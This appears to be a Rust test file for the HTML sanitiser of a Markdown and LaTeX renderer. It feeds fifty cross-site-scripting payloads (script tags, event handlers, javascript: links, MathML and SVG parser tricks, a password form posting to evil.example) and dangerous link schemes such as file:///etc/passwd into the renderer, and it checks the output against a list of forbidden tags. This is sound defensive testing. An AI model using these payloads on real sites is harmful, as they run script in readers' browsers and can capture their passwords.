//! Attacks on readers: HTML that runs something, loads something or draws over the page, some of it by way of what parsers make of
//! MathML. Each is tried as a text, inside a text, inside a formula, and past all of that on the sanitiser alone.

use super::{fault, shown};
use crate::sanitise::sanitise;

const PAYLOADS: [&str; 50] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"figures/tree.png\" onload=\"alert(1)\">",
    "<img src=`x` onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><iframe srcdoc=x></iframe></foreignObject></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x></a></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=\"position:fixed;inset:0;z-index:9999\">x</div>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<button formaction=javascript:alert(1) form=y>x</button>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java&#x0a;script:alert(1)\">x</a>",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=https://a.example target=_blank ping=//evil.example>x</a>",
    "<a id=location name=location href=https://a.example>x</a>",
    "<p id=app class=modal-open>x</p>",
    "<code class=\"language-c modal\">x</code>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<math href=javascript:alert(1)><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x<mtext>y</mtext></maction></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mtext><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img title=\"</style><img src onerror=alert(1)>\"></style></annotation-xml></math>",
    "<math><semantics><mi>x</mi><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></semantics></math>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><p><math><mi><img src=x onerror=alert(1)><malignmark><style>",
];

#[rustfmt::skip]
const NEVER: [&str; 16] = [
    "<script", "<style", "<svg", "<iframe", "<form", "<object", "<embed", "<mglyph", "<annotation",
    "<semantics", "<maction", "<base", "<meta", "<link", "<input", "<template",
];

fn check(html: &str, from: &str) {
    assert_eq!(fault(html), None, "{from}: {html}");
    let lower = html.to_lowercase();
    for never in NEVER {
        assert!(!lower.contains(never), "{from}: {html}");
    }
}

#[test]
fn as_a_text_and_within_one() {
    for payload in PAYLOADS {
        let texts = [
            payload.to_owned(),
            format!("text {payload}"),
            format!("> - {payload}\n"),
            format!("| a |\n|---|\n| {payload} |\n"),
            format!("# {payload}\n"),
            format!("*x {payload} y*"),
            format!("[{payload}](https://a.example)"),
        ];
        for text in texts {
            if let Ok(html) = shown(&text) {
                check(&html, &text);
            }
        }
        // Where Markdown says that it is text, it is shown.
        for text in [
            format!("```\n{payload}\n```\n"),
            format!("```{}\nx\n```\n", payload.replace('`', "")),
            format!("    {payload}\n"),
            format!("![{}](figures/tree.png)", payload.replace(['<', '[', ']'], "\\<")),
            payload.replace('<', "\\<").replace(['[', '`'], ""),
        ] {
            match shown(&text) {
                Ok(html) => check(&html, &text),
                Err(error) => panic!("{text}: {error}"),
            }
        }
    }
}

#[test]
fn within_a_formula() {
    for payload in PAYLOADS {
        let bare = payload.replace(['$', '#', '%', '{', '}', '\n'], "");
        for latex in [
            bare.clone(),
            format!("\\text{{{bare}}}"),
            format!("\\textbf{{{bare}}}"),
            format!("\\operatorname{{{bare}}}"),
            format!("\\mathrm{{{bare}}}"),
            format!("\\begin{{{bare}}}\\end{{{bare}}}"),
            format!("\\color{{{bare}}}x"),
            format!("\\hspace{{{bare}}}"),
            format!("\\begin{{align*}}a\\tag{{{bare}}}\\label{{{bare}}}\\end{{align*}}"),
        ] {
            let text = format!("$${latex}$$");
            if let Ok(html) = shown(&text) {
                check(&html, &text);
            }
        }
    }
}

#[test]
fn past_everything_but_the_sanitiser() {
    for payload in PAYLOADS {
        for html in [
            payload.to_owned(),
            format!("<p>{payload}</p>"),
            format!("<table><tr><td>{payload}"),
            format!("<math><mtext>{payload}</mtext></math>"),
            format!("<math><mrow>{payload}</mrow></math>"),
            format!("<a href=\"https://a.example\">{payload}"),
            format!("<img alt=\"{payload}\">"),
        ] {
            let once = sanitise(&html);
            let lower = once.to_lowercase();
            for never in NEVER.into_iter().chain(["<img src=x", "onerror=alert(1)>"]) {
                assert!(!lower.contains(never), "{html}: {once}");
            }
            // A reader's browser parses it again, and so does this.
            assert_eq!(sanitise(&once), once, "{html}");
        }
    }
}

#[test]
fn links_and_images_of_markdown() {
    for address in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\\script:alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A;avascript&colon;alert(1)",
        "javascript&#x3A;alert(1)",
        "<java\tscript:alert(1)>",
        "<\u{1}javascript:alert(1)>",
        "vbscript:x",
        "data:text/html,x",
        "//evil.example",
        "/\\evil.example",
        "\\\\\\\\evil.example",
        "https:evil.example",
        "file:///etc/passwd",
        "blob:https://a.example/x",
        "about:blank",
        "mailto",
        "",
    ] {
        for text in [
            format!("[x]({address})"),
            format!("![x]({address})"),
            format!("[x]\n\n[x]: {address}\n"),
            format!("<{address}>"),
        ] {
            match shown(&text) {
                Ok(html) => assert!(!html.contains("<a") && !html.contains("<img"), "{text}: {html}"),
                Err(error) => assert!(error.to_string().starts_with("line 1: "), "{text}: {error}"),
            }
        }
    }
    let good = "<HTTPS://a.example/ü?\"'> [x](mailto:a@a.example?subject=b) <a@a.example> [x](<https://a.example/\"onclick=\"x>)";
    assert_eq!(fault(&super::html(good)), None);
}
